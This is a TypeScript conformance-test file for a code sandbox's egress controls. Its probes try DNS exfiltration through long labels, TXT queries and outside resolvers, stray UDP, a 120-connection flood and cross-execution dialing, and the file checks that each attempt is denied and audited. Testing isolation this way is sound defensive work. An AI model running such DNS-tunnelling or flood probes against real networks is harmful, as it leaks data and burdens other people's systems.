import type { EgressRecord } from '../../../egress/index.js';
import type { ExecutionRequest } from '../../../request.js';
import type { SuiteContext } from '../../context.js';
import type { ConformanceResult } from '../../types.js';
import { propertyVerdict } from '../../verdict.js';
import { FORWARDER_PORTS } from '../../../backend/egress-forwarder.js';
import { nodeProbe, pythonProbe } from '../prelude.js';
import type { EgressCheck } from './index.js';
import { allowPolicy, describeRecords, egressRecords, egressResult, side, testName, toCanary } from './harness.js';

const API = testName('api');
const OTHER = testName('other');
/** Never routed (TEST-NET-1): where a program would send to "another resolver" or host. */
const ELSEWHERE = '192.0.2.53';

/** A DNS query for `name` (type `qtype`), as bytes in a Python literal. */
function pythonDnsQuery(): string {
  return `def dns_query(name, qtype):
    packet = b'\\xca\\xfe\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'
    for label in name.split('.'):
        packet += bytes([len(label)]) + label.encode()
    return packet + b'\\x00' + qtype.to_bytes(2, 'big') + b'\\x00\\x01'
def send_dns(host, port, name, qtype):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(dns_query(name, qtype), (host, port))
        try:
            s.recvfrom(512)
        except socket.timeout:
            pass
`;
}

/**
 * A DNS check's two runs and judgement. An A query for a nonce name, and `moreQueries`,
 * are sent by both sides: the control sends them straight to the DNS canary on an open
 * network (proving the canary hears such queries), the probe, under `network`, to the
 * sandbox's resolver, and then its `probeSteps`. The canary must hear none of the probe's, and `judge` reads the probe's
 * audited queries for its nonce.
 */
async function dnsLeakCheck(params: {
  context: SuiteContext;
  check: EgressCheck;
  network: NonNullable<ExecutionRequest['network']>;
  /** Python steps sending to the resolver at `host`:`port`, after the A query. */
  moreQueries?: (nonce: string, host: string, port: number) => string;
  probeSteps: (nonce: string) => string;
  judge: (queries: readonly EgressRecord[], all: readonly EgressRecord[]) => string | undefined;
}): Promise<ConformanceResult> {
  const { context, check } = params;
  const { dns, dnsZone } = context.endpoints;
  const controlNonce = context.nonce();
  const probeNonce = context.nonce();
  const body = (nonce: string, direct: boolean) => {
    const [host, port] = direct ? [dns.host, dns.port] : ['127.0.0.1', 53];
    return `${pythonDnsQuery()}
step('A', lambda: send_dns(${JSON.stringify(host)}, ${port}, '${nonce}.${dnsZone}', 1))
${params.moreQueries?.(nonce, host, port) ?? ''}
${direct ? '' : params.probeSteps(nonce)}`;
  };
  const control = await context.run(
    'control',
    { language: 'python', code: pythonProbe(context.endpoints, controlNonce, body(controlNonce, true)) },
    controlNonce,
  );
  const probe = await context.runWithNetwork(
    params.network,
    { language: 'python', code: pythonProbe(context.endpoints, probeNonce, body(probeNonce, false)) },
    probeNonce,
  );
  return egressResult({
    context,
    id: check.id,
    title: check.title,
    language: 'python',
    probe,
    probeNonce,
    control,
    controlNonce,
    audit: () => {
      const all = egressRecords(probe);
      return params.judge(
        all.filter((record) => record.path === 'dns' && (record.host ?? '').includes(probeNonce)),
        all,
      );
    },
  });
}

export const dnsExfiltration: EgressCheck = {
  id: 'egress:dns-exfiltration',
  title:
    'DNS exfiltration (long labels, TXT, other resolvers) reaches no resolver but the broker, which forwards nothing',
  language: 'python',
  run(context: SuiteContext): Promise<ConformanceResult> {
    const { dns, dnsZone } = context.endpoints;
    const long = (nonce: string) => `${nonce}${'x'.repeat(63 - nonce.length)}`;
    return dnsLeakCheck({
      context,
      check: this,
      network: allowPolicy({ allow: [API], resolve: toCanary(context, [API]) }),
      moreQueries: (nonce, host, port) =>
        `step('TXT, long label', lambda: send_dns(${JSON.stringify(host)}, ${port}, '${long(nonce)}.${long(nonce)}.${dnsZone}', 16))`,
      probeSteps: (
        nonce,
      ) => `step('canary resolver', lambda: send_dns(${JSON.stringify(dns.host)}, ${dns.port}, '${nonce}.${dnsZone}', 1))
step('another resolver', lambda: send_dns('${ELSEWHERE}', 53, '${nonce}.${dnsZone}', 16))
step('getaddrinfo', lambda: socket.getaddrinfo('${nonce}.${dnsZone}', 80))`,
      judge: (queries, all) => {
        if (queries.length === 0) return `the audit shows none of the probe's DNS queries (${describeRecords(all)})`;
        if (queries.some((record) => record.verdict === 'allowed')) return 'the audit shows a nonce query answered';
        return undefined;
      },
    });
  },
};

/**
 * Under `'none'` a backend that claims `capabilities().egress.dnsUnderNone` answers DNS
 * itself (nothing) and records every name asked: the probe resolves a nonce name three
 * ways; the canary (the DNS resolver a leak would reach) must hear none of them, and the
 * audit must show the nonce name, denied.
 */
export const dnsUnderNone: EgressCheck = {
  id: 'egress:dns-under-none',
  title: "under network 'none' the names code tries to resolve are audited as denied, and no query leaves",
  language: 'python',
  run(context: SuiteContext): Promise<ConformanceResult> {
    if (!context.capabilities.egress?.dnsUnderNone)
      return Promise.resolve({
        id: this.id,
        group: 'egress',
        kind: 'network',
        title: this.title,
        language: 'python',
        verdict: 'not-applicable',
        detail:
          "the backend does not observe DNS under network 'none' (capabilities().egress.dnsUnderNone is not true)",
      });
    const { dns, dnsZone } = context.endpoints;
    return dnsLeakCheck({
      context,
      check: this,
      network: 'none',
      probeSteps: (
        nonce,
      ) => `step('canary resolver', lambda: send_dns(${JSON.stringify(dns.host)}, ${dns.port}, '${nonce}.${dnsZone}', 1))
step('getaddrinfo', lambda: socket.getaddrinfo('${nonce}.${dnsZone}', 80))`,
      judge: (queries, all) => {
        if (queries.length === 0)
          return `the audit shows none of the names the probe resolved (${describeRecords(all)})`;
        if (queries.some((record) => record.verdict !== 'denied'))
          return "the audit shows a query under 'none' not denied";
        return undefined;
      },
    });
  },
};

export const udpDenied: EgressCheck = {
  id: 'egress:udp',
  title: 'UDP other than DNS to the broker is denied, to any address including a listed name',
  language: 'python',
  async run(context: SuiteContext): Promise<ConformanceResult> {
    const { udp } = context.endpoints;
    const controlNonce = context.nonce();
    const probeNonce = context.nonce();
    const send = (host: string, port: number) =>
      `(lambda s: (s.sendto(NONCE.encode(), (${JSON.stringify(host)}, ${port})), s.close()))(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))`;
    const control = await context.run(
      'control',
      {
        language: 'python',
        code: pythonProbe(context.endpoints, controlNonce, `step('udp', lambda: ${send(udp.host, udp.port)})`),
      },
      controlNonce,
    );
    const probe = await context.runWithNetwork(
      allowPolicy({ allow: [API, `${API}:${udp.port}`], resolve: toCanary(context, [API]) }),
      {
        language: 'python',
        code: pythonProbe(
          context.endpoints,
          probeNonce,
          `step('udp to the canary', lambda: ${send(udp.host, udp.port)})
step('udp to a listed name', lambda: ${send(API, udp.port)})
step('udp elsewhere', lambda: ${send(ELSEWHERE, udp.port)})`,
        ),
      },
      probeNonce,
    );
    return egressResult({
      context,
      id: this.id,
      title: this.title,
      language: 'python',
      probe,
      probeNonce,
      control,
      controlNonce,
    });
  },
};

export const flood: EgressCheck = {
  id: 'egress:flood',
  title: 'a connection flood is capped per execution, every attempt answered fast, and the audit counts each one',
  language: 'node',
  async run(context: SuiteContext): Promise<ConformanceResult> {
    const nonce = context.nonce();
    const attempts = 120;
    const maxConnections = 40;
    // Without capture the flood goes through the forwarder's HTTP proxy, as proxy-aware code would.
    const proxyOnly = context.capabilities.egress?.capture === 'proxy-only';
    const resolveOnce = proxyOnly
      ? ''
      : `const { address } = await $r('node:dns').promises.lookup(${JSON.stringify(API)});`;
    const dial = proxyOnly ? `net.connect(${FORWARDER_PORTS.httpProxy}, '127.0.0.1')` : 'net.connect(80, address)';
    const target = proxyOnly ? `http://${API}/` : '/';
    const run = await context.runWithNetwork(
      allowPolicy({
        allow: [API],
        resolve: toCanary(context, [API]),
        caps: { maxConnections, maxOpenConnections: 16 },
      }),
      {
        language: 'node',
        code: nodeProbe(
          context.endpoints,
          nonce,
          `const net = $r('node:net');
// Resolved once: the flood is of connections (to the name's address, so each is captured as the name; or to the proxy).
${resolveOnce}
const one = (i) => new Promise((resolve) => {
  const started = Date.now();
  let answered = false;
  const socket = ${dial};
  socket.on('connect', () => socket.write('GET ${target}' + NONCE + '-' + i + ' HTTP/1.1\\r\\nHost: ${API}\\r\\n\\r\\n'));
  socket.on('data', () => { answered = true; });
  socket.on('error', () => {});
  socket.on('close', () => resolve({ ms: Date.now() - started, answered }));
  // An answered attempt may be held open by HTTP keep-alive: it is ended once it has its answer.
  socket.setTimeout(8000, () => socket.destroy());
});
await step('flood', async () => {
  const attempts = await Promise.all(Array.from({ length: ${attempts} }, (_, i) => one(i)));
  const refused = attempts.filter((a) => !a.answered).map((a) => a.ms);
  process.stdout.write('CORDON-FACT slowestRefusalMs=' + (refused.length ? Math.max(...refused) : 0) + '\\n');
  process.stdout.write('CORDON-FACT answered=' + attempts.filter((a) => a.answered).length + '\\n');
}, 20000);`,
        ),
        timeoutMs: 30_000,
      },
      nonce,
    );
    const delivered = await side(context, run, nonce);
    const records = egressRecords(run).filter((record) => record.path !== 'dns');
    const allowed = records.filter((record) => record.verdict === 'allowed').length;
    const denied = records.filter((record) => record.verdict === 'denied').length;
    const slowestMs = Number(run.output.facts.slowestRefusalMs ?? NaN);
    const dropped = run.result?.egress?.dropped ?? 0;
    const problems = [
      ...(allowed > maxConnections ? [`${allowed} connections allowed, over maxConnections ${maxConnections}`] : []),
      ...(denied === 0 ? ['no attempt was denied by the cap'] : []),
      ...(records.length + dropped !== attempts
        ? [`${records.length + dropped} records for ${attempts} attempts`]
        : []),
      ...(!(slowestMs < 2_000)
        ? [
            `the slowest refused attempt took ${run.output.facts.slowestRefusalMs ?? 'unknown'} ms (a denial must be fast)`,
          ]
        : []),
    ];
    const judgement = propertyVerdict({
      holds: problems.length === 0,
      reason:
        problems.length === 0
          ? `${allowed} allowed (cap ${maxConnections}), ${denied} denied, the slowest refusal in ${slowestMs} ms`
          : problems.join('; '),
      controlOk: delivered.delivered,
      controlReason: 'no flood connection reached the canary, so the cap proves nothing',
      ...(run.record.error !== undefined ? { error: run.record.error } : {}),
    });
    return {
      id: this.id,
      group: 'egress',
      kind: 'property',
      title: this.title,
      language: 'node',
      verdict: judgement.verdict,
      detail: judgement.reason,
      controlOk: delivered.delivered,
      probe: run.record,
    };
  },
};

export const crossExecution: EgressCheck = {
  id: 'egress:cross-execution',
  title: 'two executions at once can neither dial nor resolve each other',
  language: 'node',
  async run(context: SuiteContext): Promise<ConformanceResult> {
    const listenerNonce = context.nonce();
    const dialerNonce = context.nonce();
    const port = 8080;
    // A resolves its listed name (its session hands out a synthetic address) and listens on every address.
    const listener = context.runWithNetwork(
      allowPolicy({ allow: [API], resolve: toCanary(context, [API]) }),
      {
        language: 'node',
        code: nodeProbe(
          context.endpoints,
          listenerNonce,
          `const net = $r('node:net');
let accepted = 0;
await step('resolve', () => $r('node:dns').promises.lookup(${JSON.stringify(API)}).then((a) => ({ address: a.address })));
const servers = ['0.0.0.0', '::'].map((host) => net.createServer((s) => { accepted++; s.destroy(); }).listen({ host, port: ${port}, ipv6Only: host === '::' }));
await new Promise((r) => setTimeout(r, 5000));
servers.forEach((s) => s.close());
process.stdout.write('CORDON-FACT accepted=' + accepted + '\\n');`,
        ),
      },
      listenerNonce,
    );
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    // Without capture B's own request (the control) and a second try at A's addresses go through the proxy.
    const proxyOnly = context.capabilities.egress?.capture === 'proxy-only';
    const proxy = `{ host: '127.0.0.1', port: ${FORWARDER_PORTS.httpProxy} }`;
    const viaProxy = `for (const address of ['198.18.0.1', '198.18.0.2']) await step('proxy to ' + address, () => sendTcp(${proxy}, 'GET http://' + address + ':${port}/ HTTP/1.1\\r\\nHost: ' + address + '\\r\\n\\r\\n'));
await step('reach its own listed name', () => sendTcp(${proxy}, 'GET http://${OTHER}/' + NONCE + ' HTTP/1.1\\r\\nHost: ${OTHER}\\r\\n\\r\\n'));`;
    const direct = `await step('reach its own listed name', () => sendTcp({ host: ${JSON.stringify(OTHER)}, port: 80 }, 'GET /' + NONCE + ' HTTP/1.1\\r\\nHost: ${OTHER}\\r\\n\\r\\n'));`;
    // B lists another name: it reaches that (its control), and tries A's name and synthetic addresses.
    const dialer = await context.runWithNetwork(
      allowPolicy({ allow: [OTHER], resolve: toCanary(context, [API, OTHER]) }),
      {
        language: 'node',
        code: nodeProbe(
          context.endpoints,
          dialerNonce,
          `const net = $r('node:net');
const dial = (host) => new Promise((resolve, reject) => { const s = net.connect(${port}, host); s.on('connect', () => { s.destroy(); resolve({}); }); s.on('error', reject); s.setTimeout(3000, () => { s.destroy(); reject(Object.assign(new Error('timeout'), { code: 'ETIMEDOUT' })); }); });
await step('resolve the other execution\\'s name', () => $r('node:dns').promises.lookup(${JSON.stringify(API)}));
for (const address of ['198.18.0.1', '198.18.0.2', '198.18.0.3', '198.19.255.254']) await step('dial ' + address, () => dial(address));
${proxyOnly ? viaProxy : direct}`,
        ),
      },
      dialerNonce,
    );
    const a = await listener;
    const own = await side(context, dialer, dialerNonce);
    const accepted = Number(a.output.facts.accepted ?? NaN);
    const resolvedOther = dialer.output.steps.some((step) => step.startsWith("resolve the other execution's name: ok"));
    const problems = [
      ...(accepted !== 0
        ? [`the listening execution accepted ${a.output.facts.accepted ?? 'an unknown number of'} connections`]
        : []),
      ...(resolvedOther ? ["the second execution resolved the first one's listed name"] : []),
    ];
    const judgement = propertyVerdict({
      holds: problems.length === 0,
      reason: problems.length === 0 ? `no connection crossed (${dialer.output.steps.join('; ')})` : problems.join('; '),
      controlOk: own.delivered,
      controlReason: 'the second execution did not reach its own listed name',
      ...(a.record.error !== undefined || dialer.record.error !== undefined
        ? { error: a.record.error ?? dialer.record.error }
        : Number.isNaN(accepted)
          ? { error: `the listener did not report (${a.output.steps.join('; ')}; ${a.record.stderrTail ?? ''})` }
          : {}),
    });
    return {
      id: this.id,
      group: 'egress',
      kind: 'property',
      title: this.title,
      language: 'node',
      verdict: judgement.verdict,
      detail: judgement.reason,
      controlOk: own.delivered,
      probe: dialer.record,
      control: a.record,
    };
  },
};
